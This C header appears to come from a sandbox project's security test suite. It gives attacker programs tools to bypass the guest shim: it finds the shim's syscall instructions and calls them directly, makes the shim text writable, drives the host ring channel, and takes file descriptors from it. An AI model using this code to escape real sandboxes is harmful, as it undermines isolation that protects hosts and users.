// What the attackers share: system calls through the shim's own syscall instructions, and the ring without the shim.
//
// The shim's text is this program's to rewrite, so after each of its syscall instructions a `ret` can be put:
// whatever the host lets through there, it lets through to an attacker.
#ifndef ATTACK_H
#define ATTACK_H

#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <linux/sched.h>
#include <pthread.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#include "../../native/include/occlum_abi.h"

#define SITES 256
#define AREA_CQ_EXPECTED 160 // struct area in native/shim/shim.h

static uint8_t *sites[SITES]; // the shim's syscall instructions
static int site_count;

// A site that is followed by `ret` already: the first way in, before anything has been rewritten.
static uint8_t *gate;

static long text_size;

static inline void find_sites(void) {
    uint8_t *text = (uint8_t *)OA_SHIM_BASE;
    int probe[2];
    if (pipe(probe) != 0) exit(99);
    while (text_size < OA_SHIM_TEXT_SIZE && write(probe[1], text + text_size, 1) == 1) text_size += 4096;
    close(probe[0]);
    close(probe[1]);
    for (long i = 0; i < text_size - 2; i++) {
        if (text[i] == 0x0f && text[i + 1] == 0x05 && site_count < SITES) {
            sites[site_count++] = text + i;
            if (text[i + 2] == 0xc3 && gate == NULL) gate = text + i;
        }
    }
}

// Jump to a syscall instruction that a `ret` follows.
static inline long call_at(const void *site, long number, long a, long b, long c, long d, long e, long f) {
    long result;
    register long r10 __asm__("r10") = d;
    register long r8 __asm__("r8") = e;
    register long r9 __asm__("r9") = f;
    __asm__ volatile("sub $128, %%rsp\n\tcall *%[site]\n\tadd $128, %%rsp"
                     : "=a"(result)
                     : "a"(number), "D"(a), "S"(b), "d"(c), "r"(r10), "r"(r8), "r"(r9), [site] "b"(site)
                     : "rcx", "r11", "memory");
    return result;
}

#define HOST(number, ...) HOST_(number, ##__VA_ARGS__, 0, 0, 0, 0, 0, 0)
#define HOST_(number, a, b, c, d, e, f, ...) \
    call_at(gate, number, (long)(a), (long)(b), (long)(c), (long)(d), (long)(e), (long)(f))

static inline void take_over(void) {
    setvbuf(stdout, NULL, _IONBF, 0);
    find_sites();
    if (gate == NULL) { puts("no way in"); exit(99); }
    // The host lets a guest rewrite its shim: it gains nothing by it.
    if (HOST(SYS_mprotect, OA_SHIM_BASE, text_size, PROT_READ | PROT_WRITE | PROT_EXEC) < 0) {
        puts("the shim can't be rewritten");
        exit(99);
    }
}

// ---- the ring, without the shim ----

static inline struct oa_slot *slot_of(int index) {
    return (struct oa_slot *)(OA_CHANNEL_BASE + (uint64_t)index * OA_SLOT_SIZE);
}

static inline void ring_bell(void) {
    uint64_t one = 1;
    HOST(SYS_write, OA_FD_DOORBELL, &one, 8);
}

// Submit an entry from slot `index`, whose own thread must not do so meanwhile, and wait for its completion.
static inline void ring(int index, u32 number, const uint64_t *args) {
    struct oa_slot *slot = slot_of(index);
    u32 before = __atomic_load_n(&slot->cq_seq, __ATOMIC_ACQUIRE);
    slot->number = number;
    for (int i = 0; i < 6; i++) {
        slot->args[i] = args ? args[i] : 0;
        slot->places[i].length = OA_PLACE_NONE;
    }
    __atomic_store_n(&slot->sq_seq, slot->sq_seq + 1, __ATOMIC_SEQ_CST);
    ring_bell();
    while (__atomic_load_n(&slot->cq_seq, __ATOMIC_ACQUIRE) == before) HOST(SYS_sched_yield);
}

// After `ring`: let the shim of thread `index` know how many completions there have been.
static inline void catch_up(int index) {
    *(u32 *)(OA_AREA_BASE + (uint64_t)index * OA_AREA_SIZE + AREA_CQ_EXPECTED) = slot_of(index)->cq_seq;
}

// Take what lies in the channel's socket; how many descriptors came.
static inline int take_descriptors(int *fds, int limit) {
    char byte;
    struct iovec piece = {&byte, 1};
    union { char bytes[CMSG_SPACE(8 * sizeof(int))]; struct cmsghdr align; } control;
    struct msghdr message = {.msg_iov = &piece, .msg_iovlen = 1, .msg_control = &control,
                             .msg_controllen = sizeof control};
    if (HOST(SYS_recvmsg, OA_FD_SOCKET, &message, 0) <= 0) return 0;
    struct cmsghdr *header = CMSG_FIRSTHDR(&message);
    if (header == NULL) return 0;
    int count = (header->cmsg_len - CMSG_LEN(0)) / sizeof(int);
    memcpy(fds, CMSG_DATA(header), (count < limit ? count : limit) * sizeof(int));
    return count;
}

static inline uint64_t next_random(uint64_t *state) {
    *state ^= *state << 13;
    *state ^= *state >> 7;
    *state ^= *state << 17;
    return *state;
}

static inline double seconds(void) {
    struct timespec now;
    clock_gettime(CLOCK_MONOTONIC, &now);
    return now.tv_sec + now.tv_nsec / 1e9;
}

#endif
